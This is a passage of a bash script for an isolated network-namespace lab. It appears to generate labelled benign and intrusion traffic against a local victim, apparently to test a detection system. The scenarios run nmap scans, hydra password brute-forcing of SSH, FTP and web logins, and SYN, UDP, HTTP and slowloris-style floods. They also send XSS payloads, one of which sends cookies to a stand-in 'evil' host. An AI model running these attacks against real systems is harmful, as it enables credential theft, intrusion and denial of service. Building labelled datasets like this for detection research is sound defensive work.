scn_scan-xmas() { nmap_scan -sX -p 1-1000; }
scn_scan-null() { nmap_scan -sN -p 1-1000; }
scn_scan-udp() { nmap -n -Pn -sU -p 1-100 --max-retries 0 -T5 --host-timeout 30s "$VICTIM_IP" 2>&1 | awk '/^Nmap done/'; }
hydra_run() {  # service args...
  local wl
  wl=$(wordlist "$(scaled "${WORDS:-40}" 4)")
  (cd "$SCRATCH" && hydra -I -q -l "$LAB_USER" -P "$wl" -t 4 -w 5 "$@" 2>&1) |
    awk '/successfully completed|valid password|login:/ {print}' | tail -n 1
  echo "$(wc -l < "$wl") passwords"
}
scn_ssh-brute() { WORDS=80 hydra_run "ssh://$VICTIM_IP"; }
scn_ftp-brute() { hydra_run "ftp://$VICTIM_IP"; }
scn_web-brute() { hydra_run -s 80 "$VICTIM_IP" http-post-form "/login:user=^USER^&pass=^PASS^:F=invalid login"; }
scn_xss() {
  local n i p payloads=('<script>alert(1)</script>' '"><script>alert(document.cookie)</script>'
    '<img src=x onerror=alert(1)>' "<svg/onload=alert('xss')>" 'javascript:alert(1)'
    '<body onload=alert(1)>' '<iframe src="javascript:alert(1)">' '"><img src=x onerror=fetch("//evil/"+document.cookie)>'
    "';alert(String.fromCharCode(88,83,83))//" '<scr<script>ipt>alert(1)</scr</script>ipt>')
  n=$(scaled $((25 + RANDOM % 10)))
  for ((i = 0; i < n; i++)); do
    p=${payloads[RANDOM % ${#payloads[@]}]}
    if ((RANDOM % 3)); then
      curl -s -o /dev/null --max-time 2 -G --data-urlencode "q=$p" "http://$VICTIM_IP/search"
    else
      curl -s -o /dev/null --max-time 2 --data-urlencode "user=$p" --data-urlencode "pass=$p" "http://$VICTIM_IP/login"
    fi
    pause 0.02 0.3
  done
  echo "$n payloads"
}
slow_run() {  # mode flags...
  local c l
  c=$(scaled 150 10)
  l=$(scaled 20 6)
  slowhttptest "$@" -c "$c" -r 50 -i 5 -l "$l" -x 24 -p 3 > /dev/null 2>&1 || true
  echo "$c connections for ${l}s"
}
scn_slowloris() { slow_run -H -t GET -u "http://$VICTIM_IP/"; }
scn_slowpost() { slow_run -B -t POST -s 8192 -u "http://$VICTIM_IP/login"; }
scn_http-flood() {
  local n
  n=$(scaled 2000 50)
  httperf --hog --server "$VICTIM_IP" --port 80 --uri / --num-conns "$n" --rate 400 --timeout 3 \
    2>&1 | awk '/^Total:/ {print $2, $3, $4, $5}'
}

hping_run() {  # hping3 args...: bounded by count, from the host's own address
  local me
  me=$(ip -4 -o addr show dev eth0 | awk '{sub("/.*", "", $4); print $4; exit}')
  hping3 -q -a "$me" "$@" "$VICTIM_IP" 2>&1 | awk '/packets transmitted/ {print}'
}
scn_syn-flood() { hping_run -S -p 80 -i u$((1000 + RANDOM % 1000)) -c "$(scaled 3000 100)"; }
scn_udp-flood() {
  local ports=(53 53 5201 123 9999)
  hping_run --udp -p "${ports[RANDOM % ${#ports[@]}]}" -d $((64 + RANDOM % 900)) -i u$((500 + RANDOM % 1000)) -c "$(scaled 3000 100)"
}
scn_slowread() {
  local c l
  c=$(scaled 150 10)
  l=$(scaled 20 6)
  slowhttptest -X -c "$c" -r 50 -l "$l" -w 512 -y 1024 -n 5 -z 32 -k 2 -p 3 -u "http://$VICTIM_IP:8080/files/f-1M" > /dev/null 2>&1 || true
  echo "$c connections for ${l}s"
}

cmd__scenario() {  # internal: NAME SEED SCALE (inside the host namespace)
  local s=$1
  SEED=$2 SCALE=$3
  RANDOM=$SEED
  set +e  # tools fail when the source gets blocked; the scenario goes on until its bounds
  # In the lab's temp dir: a scenario killed at its time limit leaves its
  # scratch dir for `down` to remove.
  SCRATCH=$(mktemp -d "$WORK/scratch.XXXXXX")
  trap 'rm -rf "$SCRATCH"' EXIT
  "scn_$s"
}

expand_scenarios() {
  local a
  for a in "$@"; do
    case $a in
      all) scn_names ;;
      benign) awk 'NF && $3 == 0 {print $1}' <<< "$CATALOG" ;;
      intrusions) awk 'NF && $3 == 1 {print $1}' <<< "$CATALOG" ;;
      *) scn_field "$a" 1 > /dev/null || die "unknown scenario '$a' (lab.sh list)"; echo "$a" ;;
    esac
  done
}

run_one() {  # name seed scale out
  local s=$1 seed=$2 scale=$3 out=$4 t0 t1 rc=0 summary limit
  limit=$(scn_field "$s" 3)
  t0=$(now_ns)
  summary=$(ip netns exec "$(host_ns "$s")" timeout -k 3 "$limit" "$SELF" --name "$NAME" _scenario "$s" "$seed" "$scale" 2> "$out/$s.err") || rc=$?
  t1=$(now_ns)
  summary=$(echo "$summary" | tr '\t\n' '  ' | sed 's/ *$//')
  printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$s" "$(host_ip "$s")" "$(scn_field "$s" 2)" "$(scn_class "$s")" "$t0" "$t1" "$rc" "$summary" >> "$out/scenarios.tsv"
  local tag=benign
  [[ $(scn_field "$s" 2) == 1 ]] && tag=intrusion
  printf 'lab: %-12s %-15s %-9s %5.1fs rc=%s %s\n' "$s" "$(host_ip "$s")" "$tag" "$(awk -v a="$t0" -v b="$t1" 'BEGIN {print (b - a) / 1e9}')" "$rc" "$summary" >&2
}

cmd_run() {
  need_root
  need_up
  local seed=1 scale=100 shuffle=0 concurrent=0 gap=0 out="" names=()
  while (($#)); do
    case $1 in
      --seed) seed=${2:?}; shift 2 ;;
      --scale) scale=${2:?}; shift 2 ;;
      --shuffle) shuffle=1; shift ;;
      --concurrent) concurrent=1; shift ;;
      --gap) gap=${2:?}; shift 2 ;;
      --out) out=${2:?}; shift 2 ;;
      -*) die "run: unknown option '$1'" ;;
      *) names+=("$1"); shift ;;
    esac
  done
  [[ $seed =~ ^[0-9]+$ ]] || die "run: --seed '$seed': expected a non-negative integer"
  [[ $scale =~ ^[0-9]+$ ]] && ((scale >= 1 && scale <= 1000)) || die "run: --scale '$scale': expected 1..1000 (percent)"
  [[ $gap =~ ^[0-9]+(\.[0-9]+)?$ ]] || die "run: --gap '$gap': expected seconds"
  ((${#names[@]})) || die "run: no scenario given (lab.sh list)"
  local list
  list=$(expand_scenarios "${names[@]}")
  ((shuffle)) && list=$(shuf --random-source=<(yes "$seed") <<< "$list")
  [[ -n $out ]] || out=$(mktemp -d /tmp/nnbpf-lab-run.XXXXXX)
  mkdir -p "$out"
  [[ -d $out ]] || die "run: --out '$out' is not a directory"
  : > "$out/scenarios.tsv"
  local s i=0
  "$SELF" --name "$NAME" labels $list > "$out/labels"
  note "run seed=$seed scale=$scale: $(echo $list) -> $out"
  local pids=()
  for s in $list; do
    i=$((i + 1))
    if ((concurrent)); then
      run_one "$s" "$((seed * 1000 + i))" "$scale" "$out" &
      pids+=($!)
    else
      run_one "$s" "$((seed * 1000 + i))" "$scale" "$out"
      [[ $gap != 0 ]] && sleep "$gap"
    fi
  done
  ((${#pids[@]})) && wait "${pids[@]}"
  echo "$out"
}

cmd_list() {
  awk 'NF {d=""; for (i = 5; i <= NF; i++) d = d (i > 5 ? " " : "") $i; printf "%-13s 10.79.N.%-4s %-9s %3ss  %s\n", $1, $2, ($3 ? "intrusion" : "benign"), $4, d}' <<< "$CATALOG"
}

cmd_status() {
  if [[ ! -f $STATE/lab.env ]]; then echo "lab '$NAME': down"; return 0; fi
  echo "lab '$NAME': up; victim $VICTIM_IP on $IF_V in $NS_V; work dir $WORK"
  ip netns exec "$NS_V" ss -Hltn | awk '{print "  listening " $4}'
}

cmd_env() {
  need_up
  printf 'LAB_NAME=%s\nLAB_VICTIM_NS=%s\nLAB_VICTIM_IF=%s\nLAB_VICTIM_IP=%s\nLAB_NET=%s\nLAB_WORK=%s\n' \
    "$NAME" "$NS_V" "$IF_V" "$VICTIM_IP" "$NET" "$WORK"
}

main() {
  while (($#)); do
    case $1 in
      --name) NAME=${2:?}; shift 2 ;;
      --net) NET=${2:?}; shift 2 ;;
      -h|--help) sed -n '2,20p' "$SELF" | sed 's/^# \{0,1\}//'; exit 0 ;;
      *) break ;;
    esac
  done
  (($#)) || die "missing command (up|down|run|list|labels|status|env|victim|host); lab.sh --help"
  local cmd=$1; shift
  set_names
  [[ -f $STATE/lab.env ]] && source "$STATE/lab.env"
  case $cmd in
    up) cmd_up ;;
    down) need_root; cmd_down; note "down: '$NAME' removed" ;;
    run) cmd_run "$@" ;;
    list) cmd_list ;;
    labels) (($#)) || die "labels: no scenario given"; for s in $(expand_scenarios "$@"); do
              printf '%s/32 %s %s\n' "$(host_ip "$s")" "$(scn_field "$s" 2)" "$(scn_class "$s")"; done ;;
    status) cmd_status ;;
    env) cmd_env ;;
    victim) need_up; (($#)) || die "victim: missing command"; exec nsenter --net="/var/run/netns/$NS_V" "$@" ;;
    host) need_up; (($# >= 2)) || die "host: expected SCENARIO CMD ..."; scn_field "$1" 1 > /dev/null || die "unknown scenario '$1'"
          local ns; ns=$(host_ns "$1"); shift; exec ip netns exec "$ns" "$@" ;;
    _scenario) cmd__scenario "$@" ;;
    *) die "unknown command '$cmd' (up|down|run|list|labels|status|env|victim|host)" ;;
  esac
}
main "$@"
